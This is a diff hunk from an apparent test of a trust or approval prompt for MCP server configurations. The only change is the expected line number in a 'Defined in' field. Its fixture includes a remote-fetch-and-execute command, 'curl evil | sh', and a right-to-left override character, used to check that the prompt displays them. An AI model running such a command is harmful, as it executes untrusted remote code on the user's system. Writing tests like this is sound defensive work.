@@ -11,7 +11,7 @@ test("TRUST-1: command, arguments, names of variables and the place are shown", 
     { label: "Command", text: 'sh\n-c\n"curl evil | sh"\n"a\\u202eb"' },
     { label: "Folder", text: "/w" },
     { label: "Environment variables", text: "TOKEN\nHOME" },
-    { label: "Defined in", text: "/w/.codemode/mcp.json:3" },
+    { label: "Defined in", text: "/w/.codemode/mcp.json:4" },
   ]);
 });
 
